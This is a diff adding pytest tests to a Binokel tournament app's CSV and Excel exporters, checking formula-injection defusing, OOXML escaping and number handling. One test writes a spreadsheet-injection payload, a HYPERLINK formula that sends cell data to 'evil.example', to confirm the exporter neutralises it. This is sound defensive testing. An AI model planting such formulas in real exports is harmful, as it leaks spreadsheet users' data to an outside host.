@@ -5,14 +5,26 @@ from __future__ import annotations
 
 import csv
 import io
+import re
+import zipfile
 from collections import defaultdict
+from datetime import date
+from decimal import Decimal
 
 import pytest
 from openpyxl import load_workbook
 
 from binokel_tournament.exports import CsvExporter, ExportError
 from binokel_tournament.exports import RankingsWorkbookExporter as Workbook
-from binokel_tournament.exports.rows import POINTS_FORMAT, games_rows, standings_rows
+from binokel_tournament.exports.csv import csv_text
+from binokel_tournament.exports.excel import rows_xml, workbook_bytes
+from binokel_tournament.exports.rows import (
+    POINTS_FORMAT,
+    Column,
+    RowTable,
+    games_rows,
+    standings_rows,
+)
 from binokel_tournament.models import Mode, PartyResult, SheetStatus
 from binokel_tournament.services.registration import read_table_file, rows_to_import
 from binokel_tournament.services.standings import compute_standings
@@ -121,12 +133,14 @@ def test_the_games_sheet_has_one_row_per_party_per_game(demo):
     assert {r["Art"] for r in rows} <= {"gespielt", "abgeschrieben", "Durch"}
 
 
-def test_the_entrants_sheet_reads_back_through_the_registration_import(demo):
+def test_the_entrants_sheet_on_its_own_reads_back_through_the_registration_import(demo):
+    """The .xlsx import shares the CSV import's column mapping, so the entrants sheet's
+    headers are understood — but the import reads a workbook's first sheet (a ranking), so
+    the sheet is imported on its own: moved to the front here (or as the "Teilnehmer" CSV)."""
     wb_bytes = Workbook(demo).render().content
     wb = load_workbook(io.BytesIO(wb_bytes))
     entrants = sheet_dicts(wb["Teilnehmer"])
     assert [e["Startnummer"] for e in entrants] == list(range(1, 18))
-    # the .xlsx import shares the CSV import's column mapping: our headers are understood
     sheet = wb["Teilnehmer"]
     out = io.BytesIO()
     wb.move_sheet(sheet, offset=-wb.index(sheet))
@@ -195,3 +209,120 @@ def test_awkward_text_survives_the_workbook(demo):
     first = sheet_dicts(wb["Teilnehmer"])[0]
     assert first["Name"] == " Anna <Müller> & Söhne "  # the bell character XML cannot hold
     assert first["Verein"] == 'Verein "1. FC" – Köngen'
+
+
+# --- CSV: nothing a spreadsheet program would run as a formula -------------------------------
+
+
+def test_csv_defuses_text_a_spreadsheet_would_run_as_a_formula(demo):
+    entrant = demo.entrants.filter(partner="").order_by("start_number").first()
+    entrant.name = '=HYPERLINK("http://evil.example/?"&A1;"Klick")'
+    entrant.club = "@SUMME(A1:A9)"
+    entrant.save()
+    text = CsvExporter(demo, "teilnehmer").render().content.decode("utf-8-sig")
+    rows = {r[0]: r for r in csv.reader(io.StringIO(text), delimiter=";")}
+    row = rows[str(entrant.start_number)]
+    assert row[1] == "'" + entrant.name
+    assert row[3] == "'@SUMME(A1:A9)"
+    # the workbook keeps the text as it is: an inline string is never a formula there
+    first = {e["Startnummer"]: e for e in sheet_dicts(open_workbook(demo)["Teilnehmer"])}
+    assert first[entrant.start_number]["Name"] == entrant.name
+
+
+@pytest.mark.parametrize(
+    ("value", "written"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+49 711 123", "'+49 711 123"),
+        ("-Vorstand-", "'-Vorstand-"),
+        ("@A1", "'@A1"),
+        ("\tTab", "'\tTab"),
+        ("\rCR", "'\rCR"),
+        ("Müller-Lüdenscheidt", "Müller-Lüdenscheidt"),
+        ("a=b", "a=b"),
+        (-170, "-170"),
+        (-1.5, "-1,5"),
+        (0, "0"),
+        (True, "1"),
+        (None, ""),
+        ("", ""),
+    ],
+)
+def test_csv_text_prefixes_only_text_that_starts_like_a_formula(value, written):
+    assert csv_text(value) == written
+
+
+def test_negative_points_stay_numbers_in_the_csv(demo):
+    text = CsvExporter(demo, "spiele").render().content.decode("utf-8-sig")
+    points = [r[11] for r in csv.reader(io.StringIO(text), delimiter=";")][1:]
+    assert any(p.startswith("-") for p in points)
+    assert not any(p.startswith("'") for p in points)
+
+
+# --- the workbook's cell XML ----------------------------------------------------------------
+
+
+def one_column_workbook(values: list[object], number_format: str | None = None) -> bytes:
+    table = RowTable("probe", "Probe", [Column("value", "Wert", 20, number_format)])
+    table.rows = [[v] for v in values]
+    return workbook_bytes([table])
+
+
+def read_column(data: bytes, **kwargs) -> list[object]:
+    ws = load_workbook(io.BytesIO(data), **kwargs).worksheets[0]
+    return [row[0] for row in ws.iter_rows(min_row=2, values_only=True)]
+
+
+def sheet_xml(data: bytes) -> str:
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        return archive.read("xl/worksheets/sheet1.xml").decode()
+
+
+def ooxml_text(data: bytes) -> list[str]:
+    """The strings of the sheet as Excel reads them: XML-decoded, then ``_xHHHH_`` escapes
+    resolved (ECMA-376 ST_Xstring) — which openpyxl's plain reader does not do."""
+    from xml.etree import ElementTree
+
+    ns = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
+    root = ElementTree.fromstring(sheet_xml(data))
+    texts = [t.text or "" for t in root.iterfind(".//m:sheetData//m:is/m:t", ns)][1:]  # header
+    return [re.sub(r"_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m.group(1), 16)), t) for t in texts]
+
+
+def test_floats_are_written_as_numbers():
+    data = one_column_workbook([1.5, -0.25, 1e20, 3], "0.00")
+    assert read_column(data) == [1.5, -0.25, 1e20, 3]
+    assert all(isinstance(v, (int, float)) for v in read_column(data))
+    ws = load_workbook(io.BytesIO(data)).worksheets[0]
+    assert ws["A2"].number_format == "0.00"
+
+
+@pytest.mark.parametrize(
+    "value", [Decimal("1.5"), date(2026, 11, 28), object(), b"bytes", float("nan"), float("inf")]
+)
+def test_values_the_workbook_cannot_hold_are_refused_not_written_as_text(value):
+    with pytest.raises((TypeError, ValueError)):
+        rows_xml([[value]], [None], first=2)
+
+
+def test_characters_xml_cannot_hold_are_left_out():
+    data = one_column_workbook(["A\x00B\x0bC\ufffeD\uffffE\ud800F", "Gut\tso\n"])
+    assert read_column(data) == ["ABCDEF", "Gut\tso\n"]
+
+
+def test_text_that_looks_like_an_ooxml_escape_is_escaped_itself():
+    names = ["Meier_x0041_", "_x000D_", "_x005F_", "a_x00b", "_X0041_"]
+    data = one_column_workbook(names)
+    xml = sheet_xml(data)
+    assert "Meier_x005F_x0041_" in xml and "_x005F_x000D_" in xml
+    assert ooxml_text(data) == names  # what Excel shows
+    # openpyxl undoes the escape when reading rich text (crudely: it drops every "x005F_",
+    # so a literal "_x005F_" would come back as "_")
+    assert read_column(data, rich_text=True)[:2] == names[:2]
+
+
+def test_carriage_returns_survive_the_workbook():
+    names = ["Zeile 1\r\nZeile 2", "a\rb", "\r"]
+    data = one_column_workbook(names)
+    assert read_column(data) == names
+    assert ooxml_text(data) == names
